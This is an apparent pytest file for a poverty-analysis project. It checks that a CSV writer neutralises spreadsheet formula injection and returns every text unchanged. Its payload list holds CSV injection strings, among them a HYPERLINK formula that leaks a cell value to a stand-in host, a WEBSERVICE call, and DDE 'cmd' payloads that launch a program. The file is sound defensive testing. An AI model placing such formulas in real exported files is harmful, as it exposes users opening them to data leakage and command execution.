"""No text of ours is a formula in a spreadsheet, and every text comes back as it was."""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from poverty_analysis.inputs.csvs import read_csv
from poverty_analysis.inputs.formula_guard import guarded, unguarded
from poverty_analysis.inputs.writing import write_table

PAYLOADS = (
    "=1+1",
    '=HYPERLINK("http://example.invalid/?x="&A1,"xem")',
    '=WEBSERVICE("http://example.invalid/")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "- Hỗ trợ nhà ở",
    "@SUM(1+1)",
    "@A1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "=",
    "'=1+1",
    "''-1",
)
FORMULA_SIGNS = "=+-@\t\r\n＝＋－＠"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_is_no_formula_and_comes_back(tmp_path: Path, payload: str) -> None:
    path = tmp_path / "t.csv"
    write_table(path, "t", ("a", "b"), [(payload, "x")])
    cell = path.read_text(encoding="utf-8").split("\n")[1].lstrip('"')
    assert cell[0] not in FORMULA_SIGNS
    assert read_csv(path, "t.csv").rows[0][1] == (payload, "x")


@pytest.mark.parametrize(("value", "kept"), [(-5, "-5"), (5, "5"), ("Tuần Giáo", "Tuần Giáo"), ("'a", "'a"), ("", "")])
def test_numbers_and_plain_words_stay_as_they_are(tmp_path: Path, value: int | str, kept: str) -> None:
    path = tmp_path / "t.csv"
    write_table(path, "t", ("a", "b"), [(value, "x")])
    assert path.read_text(encoding="utf-8") == f"a,b\n{kept},x\n"


@given(st.text())
def test_every_text_comes_back(text: str) -> None:
    assert unguarded(guarded(text)) == text
    assert guarded(text)[:1] not in tuple(FORMULA_SIGNS)
